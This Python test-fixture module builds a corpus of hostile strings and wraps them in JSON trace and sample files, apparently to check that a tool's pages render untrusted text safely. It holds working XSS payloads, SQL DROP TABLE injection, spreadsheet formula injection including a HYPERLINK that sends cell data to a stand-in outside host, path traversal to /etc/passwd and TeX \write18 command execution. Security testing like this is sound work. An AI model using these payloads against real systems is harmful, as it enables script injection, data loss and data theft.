"""Hostile text, in one place: what models write, what strangers name things, and where it is put to the test.

`OUTSIDE` is a host that may never be asked, `FLAG` a global that no page may ever have.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

OUTSIDE = "outside.invalid"
FLAG = "__pwned"
_RUN = f"window.{FLAG}=1"

TEXTS: dict[str, str] = {
    "script": f"<script>{_RUN}</script>",
    "image": f"<img src=x onerror={_RUN}>",
    "vector": f"<svg onload={_RUN}><animate onbegin={_RUN} attributeName=x dur=1s>",
    "attribute": f'" autofocus onfocus={_RUN} x="',
    "link": f"[click](javascript:{_RUN}) <a href='javascript:{_RUN}'>click</a>",
    "data link": f"[click](data:text/html,<script>{_RUN}</script>)",
    "remote image": f"![x](http://{OUTSIDE}/a.png) <img src=http://{OUTSIDE}/b.png>",
    "autolink": f"http://{OUTSIDE}/ www.{OUTSIDE} <http://{OUTSIDE}>",
    "style": f"<style>body{{display:none;background:url(http://{OUTSIDE}/c.png)}}</style>",
    "style link": f"<link rel=stylesheet href=http://{OUTSIDE}/d.css>",
    "frame": f"<iframe src=http://{OUTSIDE}/></iframe><base href=http://{OUTSIDE}/>",
    "end tags": f"</textarea></title></script></style>--><script>{_RUN}</script>",
    "template": "${7*7} {{7*7}} {0.__class__} %s %(x)s %{customdata}",
    "heading": "# Heading\n## Another\n---\n* a\n* b\n\n| a | b |\n|---|---|\n| **c** | `d` |",
    "directive": ":red[red] :material/delete: :streamlit: $\\frac{1}{0}$ $$\\href{javascript:1}{x}$$",
    "terminal": "\x1b[2J\x1b]0;title\x07\x1b[31mred\x1b]8;;http://x\x07link\x9b2K",
    "nul": "a\x00b",
    "escape character of the store": "\x10\x100000 \x10zzzz",
    "lone surrogates": "a\ud800b\udfff",
    "reversed pair": "\udc00\ud800",
    "right to left": "\u202egnp.exe\u202c \u2066\u2067x\u2069 \u200f",
    "invisible": "a\u200bb\ufeffc\u00add",
    "combining": "Z" + "\u0301\u0327\u0336" * 60,
    "lines": "a\r\nb\rc\u2028d\u2029e\x85f\x0bg\x0cf",
    "path": "../../../../etc/passwd%00.png",
    "sql": "'); DROP TABLE runs; -- \" %_\\",
    "formula": '=HYPERLINK("http://outside.invalid?"&A1,"x")',
    "formula after a sign": "+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after a tab": '\t=1+1,"\r\n=2+2',
    "tex": r"\input{/etc/passwd}\write18{id}\catcode`\%=0 ^^5cinput %$_&#~{}",
    "long line": "x" * 1_000_000,
    "long word with markup": "<b>" * 2000,
}
NUMBERS = ("-5", "+3", "-0.75", "1e-7", "-1.5E+30", "12", "-1,234.5", "-3/4")
SHORT = {name: text for name, text in TEXTS.items() if len(text) < 10_000}


def all_in_one(limit: int = 10_000) -> str:
    """Every short payload after another."""
    return "\n".join(SHORT.values())[:limit]


def trace(named: str, text: str) -> dict[str, Any]:
    """A file for `import thinkbooster` that is hostile in every name and text it has."""
    event = {"candidates": [{"text": f"{text}\nAnswer: {named}", "status": "selected", "selected": True,
                             "signals": {"prm": 0.5}}]}  # fmt: skip
    final = {"selected_trajectory": f"Answer: {named}"}
    run = {"events": [event], "final": final, "model_id": named, "tokens_used": 5, "latency_ms": 3}
    strategy = {"strategy_id": named, "scorer_id": named, "run": run}
    scenario = {"prompt": f"{named} {text}", "ground_truth": named[:900]}
    return {
        "examples": [{"id": named, "title": named, "payloads": {"4": {"scenario": scenario, "strategies": [strategy]}}}]
    }


def samples(text: str) -> list[dict[str, Any]]:
    """Lines for `import samples`: two problems of four samples, hostile in every text and in a key."""
    pool = [{"text": f"{text}\nAnswer: {i}", "answer": text[:900] if i % 2 else str(i), "score": i / 4, text[:50]: text}
            for i in range(4)]  # fmt: skip
    return [
        {
            "id": f"{text[:180]} {p}",
            "question": f"{text} {p}",
            "answer": text[:900] if p else "1",
            "samples": pool,
            "k": text,
        }
        for p in range(2)
    ]


def written(path: Path, *documents: Any) -> Path:
    """JSON, one document a line."""
    path.write_text("".join(json.dumps(one) + "\n" for one in documents), "ascii")
    return path
